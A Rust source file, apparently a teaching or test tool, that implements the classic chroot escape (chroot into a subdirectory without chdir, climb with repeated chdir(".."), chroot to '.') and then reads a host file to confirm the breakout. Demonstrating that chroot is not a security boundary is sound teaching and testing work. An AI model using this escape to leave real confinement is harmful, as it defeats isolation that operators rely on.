//! `escape-chroot FILE`: the classic way out of a chroot, chroot(2).
//!
//! chroot(2) changes one thing: where path lookups that start with `/`
//! begin. It does not change the current directory, and `..` is only
//! stopped *at* the root, never "outside" it. So a root process that
//! chroots into a subdirectory *without* entering it has a current
//! directory outside its root; from there `chdir("..")` climbs freely up
//! to the real `/`, and `chroot(".")` makes that the root again. This is
//! documented behaviour (see the NOTES in chroot(2)), not a bug.

use std::os::fd::AsFd;

use nix::fcntl::{OFlag, open};
use nix::sys::stat::Mode;
use nix::unistd::{UnlinkatFlags, chdir, chroot, mkdir, unlinkat};

/// Run the escape, then try to read `FILE` (a path on the host) and print
/// its first line. Exit 0 when the file was read, 1 when it was not.
pub fn main(args: &[String]) -> i32 {
    let [file] = args else {
        eprintln!("escape-chroot: usage: escape-chroot HOST-FILE");
        return 2;
    };
    // Keep /tmp open so that the escape directory can be removed afterwards,
    // wherever we end up.
    let tmp = match open("/tmp", OFlag::O_DIRECTORY | OFlag::O_CLOEXEC, Mode::empty()) {
        Ok(fd) => fd,
        Err(e) => return fail("open /tmp", e),
    };
    let name = format!("escape-{}", std::process::id());
    let dir = format!("/tmp/{name}");
    // ANCHOR: escape
    // 1. A directory below our root, and chroot into it WITHOUT chdir: the
    //    current directory is now outside the root.
    if let Err(e) = mkdir(dir.as_str(), Mode::from_bits_truncate(0o700)) {
        return fail(&format!("mkdir {dir}"), e);
    }
    let result = chroot(dir.as_str());
    let _ = unlinkat(tmp.as_fd(), name.as_str(), UnlinkatFlags::RemoveDir);
    if let Err(e) = result {
        return fail(&format!("chroot {dir}"), e);
    }
    // 2. Climb. `..` only stops at the root, and we are not below it.
    for _ in 0..64 {
        if let Err(e) = chdir("..") {
            return fail("chdir ..", e);
        }
    }
    // 3. Wherever the climb ended is the new root.
    if let Err(e) = chroot(".") {
        return fail("chroot .", e);
    }
    // ANCHOR_END: escape
    println!("escape-chroot: chroot into a subdirectory, chdir(\"..\") x64, chroot(\".\"): done");
    match std::fs::read_to_string(file) {
        Ok(text) => {
            println!(
                "ESCAPED: read {file}: {}",
                text.lines().next().unwrap_or("")
            );
            0
        }
        Err(e) => {
            println!("escape failed: cannot read {file}: {e}");
            1
        }
    }
}

fn fail(what: &str, err: nix::errno::Errno) -> i32 {
    println!("escape failed: {what}: {}", err.desc());
    1
}
